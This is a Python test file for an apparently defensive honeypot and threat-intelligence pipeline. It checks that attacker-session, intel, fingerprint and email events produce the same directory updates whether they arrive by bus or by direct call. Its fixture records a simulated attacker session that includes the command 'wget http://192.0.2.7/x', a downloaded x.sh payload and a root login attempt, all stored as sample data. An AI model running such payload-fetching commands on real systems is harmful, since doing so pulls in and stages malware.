# SPDX-License-Identifier: AGPL-3.0-or-later
"""Events by call tell the directory what their message on the bus would."""

from __future__ import annotations

from typing import Any

import pytest

from decnet_ttp.core.source_kinds import SourceKind
from decnet_ttp.ingest.batch import TaggerRequests, Upstream, sink_of
from decnet_ttp.ingest.directory_update import DirectoryUpdate
from decnet_ttp.ingest.inputs.fingerprints import FINGERPRINTED
from decnet_ttp.ingest.inputs.intel import INTEL_ENRICHED
from decnet_ttp.ingest.inputs.mail import EMAIL_RECEIVED
from decnet_ttp.ingest.inputs.reading import Input
from decnet_ttp.ingest.inputs.sessions import SESSION_ENDED
from decnet_ttp.ingest.submitted import group_payload, tell_group
from decnet_ttp.v1 import directory_update_pb2, event_pb2

ATTACKER = "00000000-0000-0000-0000-00000000000a"
AT = "2026-03-05T12:00:00+00:00"
LATER = "2026-03-05T12:05:00+00:00"
SHA256 = "ab" * 32

SESSION = {
    "session_id": "s1",
    "decky_id": "decky-1",
    "attacker_uuid": ATTACKER,
    "attacker_ip": "203.0.113.9",
    "service": "ssh",
    "started_at": AT,
    "ended_at": LATER,
    "client_version": "SSH-2.0-Go",
    "hassh": "0a" * 16,
    "country_code": "NL",
    "asn": 4_200_000_000,
    "as_name": "An AS",
    "commands": [
        {"command_text": "id", "ts": AT},
        {"command_text": "wget http://192.0.2.7/x", "ts": LATER},
    ],
    "auth_attempts": [{"username": "root", "password": "x", "ts": AT}],
    "http_requests": [
        {
            "method": "GET",
            "path": "/",
            "headers": {"Host": "h", "Accept": "*/*", "X-A": "1", "X-B": "2"},
            "header_order": ["Host", "Accept", "X-A", "X-B"],
            "ts": AT,
        }
    ],
    "payloads": [{"sha256": SHA256, "filename": "x.sh", "url": "http://192.0.2.7/x", "ts": LATER}],
}
MESSAGES: dict[str, tuple[Input, str, dict[str, Any]]] = {
    "session": (SESSION_ENDED, "", SESSION),
    "intel": (
        INTEL_ENRICHED,
        "",
        {
            "attacker_uuid": ATTACKER,
            "aggregate_verdict": "malicious",
            "abuseipdb_score": 97,
            "greynoise_classification": "malicious",
            "greynoise_tags": ["Mirai"],
            "enriched_at": AT,
            "ts": AT,
        },
    ),
    "jarm": (
        FINGERPRINTED,
        "jarm",
        {"attacker_uuid": ATTACKER, "hash": "2a" * 31, "observed_at": AT},
    ),
    "ipv6_leak": (
        FINGERPRINTED,
        "ipv6_leak",
        {"attacker_uuid": ATTACKER, "addr": "fe80::1", "vector": "mdns", "observed_at": AT},
    ),
    "email": (
        EMAIL_RECEIVED,
        "",
        {
            "attacker_uuid": ATTACKER,
            "subject": "hello",
            "rcpt_domains": ["example.org"],
            "attachment_sha256s": [SHA256],
            "ts": AT,
        },
    ),
}


def message(source: Input, kind: str, payload: dict[str, Any]) -> Upstream:
    """Return a message as the consumer reads it."""
    upstream = Upstream("o1", "", payload, 0, kind=kind, source=source)
    upstream.read_anchor()
    return upstream


def submitted(upstream: Upstream) -> tuple[Upstream, event_pb2.EventGroup]:
    """Return the group that a message becomes, as somebody would submit it."""
    requests = TaggerRequests(frozenset(SourceKind))
    requests.begin(upstream)
    assert upstream.source is not None
    upstream.source.write(upstream, sink_of([requests]))
    (group,) = requests.requests[0].groups
    group.session_id, group.decky_id = upstream.session_id, upstream.decky_id
    return (
        Upstream(
            "o1",
            "",
            group_payload(group),
            0,
            ip=upstream.ip,
            attacker_uuid=upstream.attacker_uuid,
            names_attacker=True,
        ),
        group,
    )


def told(update: DirectoryUpdate) -> directory_update_pb2.UpdateDirectoryRequest:
    """Return what was told, in an order of its own; sightings of one attacker once."""
    (request,) = update.requests()
    facts = sorted(request.facts, key=lambda fact: (fact.kind, fact.value))
    del request.facts[:]
    request.facts.extend(facts)
    del request.attackers[1:]
    return request


@pytest.mark.parametrize("name", [*MESSAGES])
def test_a_group_tells_what_its_message_tells(name: str) -> None:
    source, kind, payload = MESSAGES[name]
    by_bus, by_call = DirectoryUpdate(), DirectoryUpdate()
    upstream = message(source, kind, payload)
    source.tell(upstream, by_bus)
    tell_group(*submitted(upstream), by_call)
    assert told(by_call) == told(by_bus)


def test_fields_beside_the_typed_ones_do_not_rename_the_session() -> None:
    group = event_pb2.EventGroup(session_id="s1", decky_id="d1")
    event = group.events.add(source_kind="session", source_id="s1")
    event.session.command_count = 7
    event.extra.update({"session_id": "s2", "decky_id": "d2", "ja3": "0b" * 16})
    group.events.add(source_kind="command", source_id="s1#0").command.command_text = "id"
    payload = group_payload(group)
    assert (payload["session_id"], payload["decky_id"]) == ("s1", "d1")
    assert (payload["command_count"], payload["ja3"]) == (7, "0b" * 16)
